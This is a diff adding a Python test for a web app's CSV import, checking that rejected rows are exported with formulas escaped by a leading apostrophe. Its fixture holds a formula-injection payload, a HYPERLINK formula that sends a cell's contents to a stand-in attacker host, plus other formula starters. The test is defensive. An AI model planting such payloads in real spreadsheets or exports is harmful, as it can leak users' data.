@@ -181,3 +181,23 @@ async def test_only_an_admin_imports_and_only_with_the_forms_token(api: Api) -> 
     assert api.app[IMPORTS].recent() == []
     assert await _client_names(api) == before
     assert (await browser.get("/import/0123456789abcdef")).status == 403
+
+
+async def test_rejected_rows_come_back_as_text_a_spreadsheet_does_not_compute(api: Api) -> None:
+    _, browser = await _admin(api)
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Открыть")'
+    uploaded = (
+        "Наименование;Телефон;Менеджер;Статус;Комментарий\n"
+        f'"{evil.replace(chr(34), chr(34) * 2)}";12;;;@SUM(1+1)\n'
+        "ООО Знак;+79160000004;;непонятный;-2+3\n"
+    )
+    started = await _upload(browser, "formulas.csv", uploaded.encode())
+    done = await _finished(api, browser, started)
+    assert _count(done, "rejected") == "2"
+    report = await browser.get(f"{started.location}/rejected.csv")
+    rows = list(csv.reader(io.StringIO(report.text.removeprefix("\ufeff")), delimiter=";"))
+    assert [r[:5] for r in rows[1:]] == [
+        ["'" + evil, "12", "", "", "'@SUM(1+1)"],
+        ["ООО Знак", "+79160000004", "", "непонятный", "'-2+3"],
+    ]
+    assert [int(r[5]) for r in rows[1:]] == [2, 3]
